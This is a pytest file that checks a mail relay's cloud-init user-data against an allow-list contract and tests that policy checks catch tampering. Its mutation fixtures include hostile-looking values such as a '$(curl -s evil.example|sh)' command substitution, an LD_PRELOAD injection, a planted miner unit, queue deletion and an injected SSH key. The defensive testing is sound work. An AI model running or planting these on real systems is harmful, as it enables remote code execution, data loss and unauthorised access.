"""The relay's cloud-init as an allow-list (relay-user-data, free-tier-keepalive).

The contract file (policy/backup_mx_rules/relay_files.json) must list exactly what the program
renders, shape by shape, so a changed asset is one reviewed line in the same commit. Then one
mutation per class, per shape, through the real analyzer: each is reported by the policies
meant for it and by no other, and the equivalent forms pass.
"""
from __future__ import annotations

import base64
import copy
import hashlib
import json

import pytest
import yaml

from offline import program
from tests.helpers import ROOT, reported, run_stack, set_user_data_doc, stack_secrets, user_data_doc
from tests.pack_mutations import MAIL_POLICIES

CONTRACT = json.loads((ROOT / "policy" / "backup_mx_rules" / "relay_files.json").read_text())
# "default" is the seed deployment (the mutations name its hosts); "example" the neutral stack.
SHAPES = {"default": ROOT / "examples" / "Pulumi.seed.yaml", "example": ROOT / "Pulumi.example.yaml", **{
    p.stem.split(".")[-1]: p for p in sorted((ROOT / "examples").glob("Pulumi.*.yaml")) if p.stem != "Pulumi.seed"}}
USER_DATA = "relay-user-data"
KEEPALIVE = "free-tier-keepalive"
ENV = "/etc/backup-mx/backup-mx.env"


@pytest.fixture(scope="module")
def runs():
    out = {}
    for shape, path in SHAPES.items():
        out[shape] = run_stack(path, secret_overrides=stack_secrets(path, "hskey-test"))
    return out


@pytest.fixture(scope="module")
def plans(runs):
    return {shape: program.plan(run, redacted=False) for shape, run in runs.items()}


def instances(plan):
    return [r for r in plan["resources"] if r["type"] == "oci:Core/instance:Instance"]


def entry_line(path, doc_entry, spec):
    """The contract line the rendered file needs, for the failure message."""
    line = {k: spec[k] for k in ("path", "mode", "shape", "kind", "role")}
    if spec["kind"] == "static":
        line["sha256"] = hashlib.sha256(doc_entry["content"].encode()).hexdigest()
    return json.dumps(line)


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_the_contract_lists_exactly_what_the_program_renders(runs, plans, shape):
    files = {f["path"]: f for f in CONTRACT["files"]}
    for inst in instances(plans[shape]):
        doc = user_data_doc(inst)
        rendered = {f["path"]: f for f in doc["write_files"]}
        unlisted = sorted(set(rendered) - set(files))
        assert not unlisted, f"rendered but not in relay_files.json: {unlisted}"
        for path, entry in rendered.items():
            spec = files[path]
            assert entry["permissions"].lstrip("0") == spec["mode"], path
            if spec["kind"] == "static":
                digest = hashlib.sha256(entry["content"].encode()).hexdigest()
                assert digest == spec["sha256"], f"review and update the line:\n{entry_line(path, entry, spec)}"
        config = runs[shape].config
        active = {"all"} | {name for name, on in (
            ("free", config["backup-mx:accountMode"] == "free"),
            ("wireguard", config["backup-mx:drainTransport"] == "wireguard"),
            ("tailnet", config["backup-mx:tailnet"] != "none"),
            ("list", config.get("backup-mx:recipients") == "list")) if on}
        expected = {p for p, f in files.items() if f["shape"] in active}
        assert set(rendered) == expected, sorted(set(rendered) ^ expected)
        assert doc["runcmd"] == CONTRACT["runcmd"] and "bootcmd" not in doc
        debconf = next(f["content"] for f in doc["write_files"] if f["path"].endswith("/debconf.txt"))
        assert debconf == "".join(line.format(relay=doc["fqdn"]) + "\n" for line in CONTRACT["debconf"])


def test_the_pack_reads_its_defaults_as_pulumi_yaml_declares_them():
    """environment.FACT_DEFAULTS is the pack's own copy of the `default:` values it reads."""
    from backup_mx_rules.environment import FACT_DEFAULTS
    declared = yaml.safe_load((ROOT / "Pulumi.yaml").read_text())["config"]
    for key, value in FACT_DEFAULTS.items():
        want = declared[key].get("default", "")
        assert value == want, (key, value, want)


# --- mutations ------------------------------------------------------------------------------

def on_doc(change, fqdn=""):
    """A plan change that edits the cloud-config of the relay named `fqdn` (default: the first)."""
    def apply(plan):
        plan = copy.deepcopy(plan)
        inst = next(i for i in instances(plan) if fqdn in user_data_doc(i)["fqdn"])
        doc = user_data_doc(inst)
        change(doc)
        set_user_data_doc(inst, doc)
        return plan
    return apply


def entry(doc, path):
    return next(f for f in doc["write_files"] if f["path"] == path)


def edit(path, old, new):
    def change(doc):
        text = entry(doc, path)["content"]
        assert old in text, (path, old)
        entry(doc, path)["content"] = text.replace(old, new, 1)
    return change


def add_file(path, content, mode="0644"):
    return lambda doc: doc["write_files"].append({"path": path, "permissions": mode, "content": content})


def drop_file(path):
    return lambda doc: doc["write_files"].remove(entry(doc, path))


def env_set(key, value):
    def change(doc):
        lines = [ln for ln in entry(doc, ENV)["content"].splitlines() if not ln.startswith(f"{key}=")]
        if value is not None:
            lines.append(f"{key}={value}")
        entry(doc, ENV)["content"] = "\n".join(lines) + "\n"
    return change


def run_more(*items):
    return lambda doc: doc["runcmd"].extend(items)


WG_CONF = "/etc/wireguard/wg0.conf"
KEEPALIVE_UNIT = "/etc/systemd/system/backup-mx-keepalive.service"
# (shape, change, the policies that must report it, and no other)
MUTATIONS = {
    # class 1: edits after rendering to files other than Postfix's
    "sed -i on the WireGuard config in runcmd": ("wireguard", run_more(
        f"sed -i 's#^AllowedIPs.*#AllowedIPs = 0.0.0.0/0#' {WG_CONF}"), {USER_DATA}),
    "wg set in a new script": ("wireguard", add_file(
        "/usr/local/sbin/retune", "#!/bin/sh\nwg set wg0 peer x allowed-ips 0.0.0.0/0\n", "0755"), {USER_DATA}),
    "a wg-quick drop-in that reads another file": ("wireguard", add_file(
        "/etc/systemd/system/wg-quick@wg0.service.d/override.conf",
        "[Service]\nExecStart=\nExecStart=/usr/bin/wg-quick up /root/other.conf\n"), {USER_DATA}),
    "the drain unit deletes the queue": ("default", edit(
        "/etc/systemd/system/backup-mx-drain.service", "[Service]", "[Service]\nExecStartPre=/usr/sbin/postsuper -d ALL"),
        {USER_DATA}),
    "a mount unit puts the spool on tmpfs": ("default", add_file(
        "/etc/systemd/system/var-spool-postfix.mount",
        "[Mount]\nWhat=tmpfs\nWhere=/var/spool/postfix\nType=tmpfs\n[Install]\nWantedBy=local-fs.target\n"),
        {USER_DATA}),
    "cloud-config mounts the spool on tmpfs": ("default", lambda d: d.update(
        mounts=[["tmpfs", "/var/spool/postfix", "tmpfs", "defaults"]]), {USER_DATA} | MAIL_POLICIES),
    "postconf -e inside sh -c in runcmd": ("default", run_more(
        ["sh", "-c", "postconf -e soft_bounce=no"]), {USER_DATA} | MAIL_POLICIES),
    "postconf -e inside bash -c as a string": ("default", run_more(
        "bash -c 'systemctl stop postfix && postconf -e soft_bounce=no'"), {USER_DATA} | MAIL_POLICIES),
    "the bootstrap edited": ("default", edit(
        "/usr/local/sbin/backup-mx-bootstrap", "postfix check", "postfix check; postsuper -d ALL"), {USER_DATA}),
    "the OS firewall opens SSH to the world": ("default", edit(
        "/usr/local/sbin/backup-mx-firewall", 'rules=(', 'rules=(\n  "-p tcp -m tcp --dport 22 -j ACCEPT"'),
        {USER_DATA}),
    "an unknown unit": ("default", add_file("/etc/systemd/system/miner.service",
                                            "[Service]\nExecStart=/opt/miner\n"), {USER_DATA}),
    "a bootcmd": ("default", lambda d: d.update(bootcmd=["systemctl mask postfix"]), {USER_DATA}),
    "a second runcmd": ("default", run_more(["systemctl", "disable", "postfix"]), {USER_DATA}),
    "a write_files entry with an owner": ("default", lambda d: entry(d, "/usr/local/sbin/backup-mx-drain").update(
        owner="nobody:nogroup"), {USER_DATA}),
    "a script written with another mode": ("default", lambda d: entry(d, "/usr/local/sbin/backup-mx-drain").update(
        permissions="0644"), {USER_DATA}),
    "the drain watcher removed": ("default", drop_file("/usr/local/sbin/backup-mx-drain"), {USER_DATA}),
    # the env file: the scripts' values, against the stack config
    "env: the drain port changed": ("default", env_set("DRAIN_PORT", "2525"), {USER_DATA}),
    "env: the homelab CIDR widened (exporters open)": ("default", env_set("HOMELAB_CIDR", "0.0.0.0/0"), {USER_DATA}),
    "env: break-glass SSH on without the stack": ("default", env_set("BREAK_GLASS_SSH", "true"), {USER_DATA}),
    "env: SMTP_PORT moved": ("default", env_set("SMTP_PORT", "2500"), {USER_DATA}),
    "env: a command substitution": ("default", env_set("TAILNET_TAG", "$(curl -s evil.example|sh)"), {USER_DATA}),
    "env: a key the program does not render": ("default", env_set("LD_PRELOAD", "/tmp/x.so"), {USER_DATA}),
    "env: the queue-age threshold lengthened": ("default", env_set("QUEUE_LIFETIME_S", "'99999999'"), {USER_DATA}),
    "env: the relay's name": ("default", env_set("RELAY_HOSTNAME", "'mx9.viktorbarzin.me'"), {USER_DATA}),
    # the document's own keys
    "another SSH key": ("default", lambda d: d.update(ssh_authorized_keys=[
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILYHI5UbANe/cz2ChJQYH+F507rw6wGqZxs1dKFQyeMO evil"]), {USER_DATA}),
    "password login on": ("default", lambda d: d.update(ssh_pwauth=True), {USER_DATA}),
    "another host name": ("default", lambda d: d.update(fqdn="mx9.viktorbarzin.me"), {USER_DATA}),
    # class 3: the WireGuard endpoint
    "env: the tunnel endpoint": ("wireguard", env_set("WG_ENDPOINT", "'203.0.113.66:51820'"), {USER_DATA}),
    "wg0.conf: Endpoint not wireguardEndpoint": ("wireguard", lambda d: entry(d, WG_CONF).update(
        content="\n".join(("Endpoint = 203.0.113.66:51820" if ln.startswith("Endpoint") else ln)
                          for ln in entry(d, WG_CONF)["content"].splitlines()) + "\n"), {"wireguard-tunnel"}),
    "the tunnel watcher's timer removed": ("wireguard", drop_file("/etc/systemd/system/backup-mx-wg-watch.timer"),
                                           {USER_DATA}),
    "a WireGuard file on the NAT shape": ("default", add_file("/usr/local/sbin/backup-mx-wg-watch", "#!/bin/sh\n",
                                                              "0755"), {USER_DATA}),
    # two relays: each instance is judged with its own name
    "the second relay's env names the first": ("tworelays", on_doc(
        env_set("RELAY_HOSTNAME", "mx2.viktorbarzin.me"), fqdn="mx3."), {USER_DATA}),
    # the tailnet: the key file and enrolment exist exactly where the stack has a tailnet
    "a tailnet key written on the no-tailnet shape": ("notailnet", add_file(
        "/etc/backup-mx/headscale-preauth-key", "hskey-x\n", "0600"), {USER_DATA}),
    "env: TAILNET none on a headscale stack (no enrolment, public SSH dropped)": ("default", env_set(
        "TAILNET", "none"), {USER_DATA}),
    "env: TAILNET headscale on the no-tailnet shape": ("notailnet", env_set("TAILNET", "headscale"), {USER_DATA}),
    "env: a login server on the tailscale shape": ("tailscale", env_set(
        "HEADSCALE_LOGIN_SERVER", "'https://hs.evil.example'"), {USER_DATA}),
    "the tailnet key removed on the tailscale shape": ("tailscale", drop_file("/etc/backup-mx/headscale-preauth-key"),
                                                       {USER_DATA}),
    # class 8: the free-tier keep-alive
    "keep-alive unit removed": ("free", drop_file(KEEPALIVE_UNIT), {KEEPALIVE}),
    "keep-alive script removed": ("free", drop_file("/usr/local/sbin/backup-mx-keepalive"), {KEEPALIVE}),
    "keep-alive masked in runcmd": ("free", run_more(["systemctl", "mask", "backup-mx-keepalive.service"]),
                                    {USER_DATA, KEEPALIVE}),
    "keep-alive throttled by a drop-in": ("free", add_file(
        "/etc/systemd/system/backup-mx-keepalive.service.d/quota.conf", "[Service]\nCPUQuota=1%\n"), {KEEPALIVE}),
    "keep-alive unit edited (Restart=no)": ("free", edit(KEEPALIVE_UNIT, "Restart=always", "Restart=no"), {KEEPALIVE}),
    "keep-alive busy time cut": ("free", env_set("KEEPALIVE_BUSY_S", "1"), {KEEPALIVE}),
    "keep-alive period lengthened": ("free", env_set("KEEPALIVE_PERIOD_S", "86400"), {KEEPALIVE}),
    "ACCOUNT_MODE flipped to payg": ("free", env_set("ACCOUNT_MODE", "payg"), {KEEPALIVE}),
    "keep-alive files on the payg shape": ("default", add_file("/usr/local/sbin/backup-mx-keepalive", "#!/bin/sh\n",
                                                               "0755"), {USER_DATA}),
}
def rename(path, new_path):
    return lambda doc: entry(doc, path).update(path=new_path)


def edit_text(path, transform):
    return lambda doc: entry(doc, path).update(content=transform(entry(doc, path)["content"]))


DEBCONF = "/etc/backup-mx/debconf.txt"
STAGED_MAIN = "/etc/backup-mx/postfix/main.cf"
# The cloud-init text as cloud-init and bash read it: a path is written where it says, spaces
# and all, and a form feed, a no-break space or a CR is part of a shell word. The staged main.cf
# under another name leaves the relay with none, so every mail policy fails closed too.
TEXT_MUTATIONS = {
    "main.cf's path with a trailing space": (rename(STAGED_MAIN, STAGED_MAIN + " "), {USER_DATA, *MAIL_POLICIES}),
    "main.cf's path with a leading space": (rename(STAGED_MAIN, " " + STAGED_MAIN), {USER_DATA, *MAIL_POLICIES}),
    "a form feed before an env assignment": (edit_text(ENV, lambda t: t.replace("\nHOMELAB_CIDR=", "\n\fHOMELAB_CIDR=")),
                                              {USER_DATA}),
    "a CR at the end of an env line": (edit_text(ENV, lambda t: t.replace("\nSMTP_PORT=25\n", "\nSMTP_PORT=25\r\n")),
                                       {USER_DATA}),
    "a no-break space before an env assignment": (
        edit_text(ENV, lambda t: t.replace("\nSMTP_PORT=", "\n\u00a0SMTP_PORT=")), {USER_DATA}),
    "a debconf line missing its value": (
        edit_text(DEBCONF, lambda t: t.replace(" select No configuration", " select")), {USER_DATA}),
    "a debconf answer added": (edit_text(DEBCONF, lambda t: t + "postfix postfix/destinations string localhost\n"),
                               {USER_DATA}),
}
MUTATIONS.update({name: ("default", change, expected) for name, (change, expected) in TEXT_MUTATIONS.items()})

EQUIVALENTS = {
    "runcmd as a string": ("default", lambda d: d.update(runcmd=["/usr/local/sbin/backup-mx-bootstrap"])),
    "runcmd through sh -c": ("default", lambda d: d.update(runcmd=[["sh", "-c", "/usr/local/sbin/backup-mx-bootstrap"]])),
    "runcmd through bash -c as a string": ("default", lambda d: d.update(
        runcmd=["bash -c '/usr/local/sbin/backup-mx-bootstrap'"])),
    "a script written base64-encoded": ("default", lambda d: entry(d, "/usr/local/sbin/backup-mx-drain").update(
        encoding="b64", content=base64.b64encode(entry(d, "/usr/local/sbin/backup-mx-drain")["content"].encode())
        .decode())),
    "an empty bootcmd": ("default", lambda d: d.update(bootcmd=[])),
    # cloud-init reads a YAML number as the mode itself: an unquoted 0755 is the integer 493
    "a mode written as a YAML number": ("default", lambda d: entry(d, "/usr/local/sbin/backup-mx-drain").update(
        permissions=0o755)),
    "a mode written 0o755": ("default", lambda d: entry(d, "/usr/local/sbin/backup-mx-drain").update(
        permissions="0o755")),
    "an env value bare instead of quoted": ("default", env_set("SMTP_PORT", "25")),
    "the free shape's env with ACCOUNT_MODE quoted": ("free", env_set("ACCOUNT_MODE", "'free'")),
}


def _apply(change, plan):
    return change(plan) if getattr(change, "__name__", "") == "apply" else on_doc(change)(plan)


@pytest.mark.parametrize("case", sorted(MUTATIONS))
def test_user_data_mutation_is_reported_by_its_policies_only(policies, plans, case):
    shape, change, expected = MUTATIONS[case]
    plan = _apply(change, plans[shape])
    violations = policies.check(plan)
    assert reported(violations) == expected, [v.message for v in violations]


@pytest.mark.parametrize("case", sorted(EQUIVALENTS))
def test_equivalent_user_data_forms_pass(policies, plans, case):
    shape, change = EQUIVALENTS[case]
    violations = policies.check(_apply(change, plans[shape]))
    assert reported(violations) == set(), [v.message for v in violations]


def test_every_shape_has_user_data_mutations():
    counts = {shape: sum(1 for s, _, _ in MUTATIONS.values() if s == shape) for shape in
              ("default", "free", "wireguard", "tworelays", "tailscale", "notailnet")}
    assert all(n >= 1 for n in counts.values()), counts
    assert sum(1 for _, _, e in MUTATIONS.values() if KEEPALIVE in e) >= 3


# --- every class, on every shape ---------------------------------------------------------------

def _world_port(plan):
    from tests.test_policy import add_ingress
    return add_ingress(plan, {"protocol": "6", "source": "0.0.0.0/0", "tcpOptions": {"min": 3306, "max": 3306}})


def _pool(plan):
    from tests.helpers import add_resource
    return add_resource(plan, "oci:Core/instancePool:InstancePool", "pool", {"size": 1})


def _stopped(plan):
    from tests.helpers import set_prop
    return set_prop(plan, "instance:Instance", ["state"], "STOPPED")


def _loopback(plan):
    from tests.helpers import set_main_cf
    return set_main_cf(plan, "inet_interfaces", "loopback-only")


CLASSES = {
    "an edit after rendering (a unit that deletes the queue)": (on_doc(edit(
        "/etc/systemd/system/backup-mx-drain.service", "[Service]", "[Service]\nExecStartPre=/usr/sbin/postsuper -d ALL")),
        {USER_DATA}),
    "a liveness parameter (loopback-only)": (_loopback, {"postfix-parameters"}),
    "an input that stops the relay": (_stopped, {"relay-instance-inputs"}),
    "a port the relay does not serve": (_world_port, {"security-list"}),
    "a resource type outside the model": (_pool, {"modeled-resources"}),
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize("case", sorted(CLASSES))
def test_every_class_is_reported_on_every_shape(policies, plans, shape, case):
    change, expected = CLASSES[case]
    assert reported(policies.check(plans[shape])) == set()
    violations = policies.check(change(plans[shape]))
    assert reported(violations) == expected, [v.message for v in violations]
